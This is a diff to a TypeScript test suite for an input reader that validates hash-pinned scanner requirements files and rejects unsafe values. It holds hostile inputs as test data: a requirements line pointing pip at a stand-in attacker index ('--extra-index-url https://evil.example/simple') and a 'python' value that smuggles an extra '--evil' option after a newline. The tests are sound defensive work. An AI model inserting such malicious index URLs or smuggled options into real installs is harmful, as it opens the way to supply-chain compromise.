@@ -206,6 +206,7 @@ describe('readInputs', () => {
           'b'.repeat(64) +
           '\n'
       )
+      writeFileSync(join(dir, 'index.txt'), '--extra-index-url https://evil.example/simple\n')
       writeFileSync(
         join(dir, 'other.txt'),
         'model-security-client==1.1.1 --hash=sha256:' + 'a'.repeat(64) + '\n'
@@ -215,12 +216,25 @@ describe('readInputs', () => {
     const inDir = (inputs: Record<string, string>) =>
       readInputs((name) => inputs[name] ?? '', { GITHUB_WORKSPACE: dir })
 
-    it('a hash-pinned requirements file is resolved in the workspace', () => {
+    it('a hash-pinned requirements file is resolved in the workspace and read into its pinned lines', () => {
       writeFileSync(join(dir, 'model.safetensors'), '')
       expect(inDir({ 'model-uri': 'model.safetensors', 'scanner-requirements': 'good.txt' }).scanner).toEqual(
         {
           version: '1.1.2',
-          requirementsFile: join(dir, 'good.txt')
+          requirements: {
+            file: join(dir, 'good.txt'),
+            sha256: expect.stringMatching(/^[0-9a-f]{64}$/),
+            requirements: [
+              {
+                name: 'model-security-client',
+                extras: ['aws'],
+                version: '1.1.2',
+                sha256: ['a'.repeat(64)],
+                line: 1
+              },
+              { name: 'httpx', extras: [], version: '0.28.1', sha256: ['b'.repeat(64)], line: 3 }
+            ]
+          }
         }
       )
     })
@@ -228,11 +242,16 @@ describe('readInputs', () => {
     it.each([
       [{ 'scanner-version': '>=1.1' }, 'scanner-version', 'is not an exact release; write one like 1.1.2'],
       [{ 'scanner-version': 'latest' }, 'scanner-version', 'is not an exact release'],
-      [{ 'scanner-requirements': 'missing.txt' }, 'scanner-requirements', 'cannot be read (no such file)'],
+      [{ 'scanner-requirements': 'missing.txt' }, 'scanner-requirements', 'missing.txt does not exist'],
       [
         { 'scanner-requirements': 'other.txt' },
         'scanner-requirements',
         'does not pin model-security-client==1.1.2'
+      ],
+      [
+        { 'scanner-requirements': 'index.txt' },
+        'scanner-requirements',
+        'index.txt line 1 sets the pip option --extra-index-url'
       ],
       [{ python: 'python3\n--evil' }, 'python', 'contains control characters']
     ])('%j is rejected naming %s', (inputs, name, problem) => {
